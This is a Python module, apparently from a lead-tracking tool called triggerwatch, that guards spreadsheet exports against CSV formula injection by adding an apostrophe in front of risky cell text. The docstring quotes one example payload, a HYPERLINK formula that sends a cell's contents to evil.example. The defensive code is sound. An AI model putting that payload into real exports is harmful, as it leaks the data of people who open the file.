"""Spreadsheet safety: text that a spreadsheet would run as a formula is neutralised.

Excel, LibreOffice and Google Sheets take a cell whose text starts with ``=``, ``+``, ``-`` or ``@``
(and some a leading tab, carriage return or line feed, or the full-width forms of those signs) for
a formula ("CSV injection": ``=HYPERLINK("http://evil.example/?d="&A1,"Open")`` in a company name
or an evidence URL runs when a rep opens the file). Source text (job titles, headlines, company
names) is untrusted, so every text cell of every export goes through :func:`safe_cell`, which
prefixes such text with an apostrophe, the spreadsheets' own "this is text" mark (OWASP's
recommendation); numbers stay numbers. Used by ``triggerwatch export`` (CSV, xlsx), the web's
``triggers.csv`` and ``triggerwatch score export``.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def neutralise(text: str) -> str:
    """``text`` with an apostrophe in front when a spreadsheet would take it for a formula."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def safe_cell(value: Any) -> Any:
    """A cell value for CSV or xlsx: text neutralised (:func:`neutralise`), anything else as it is."""
    return neutralise(value) if isinstance(value, str) else value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]
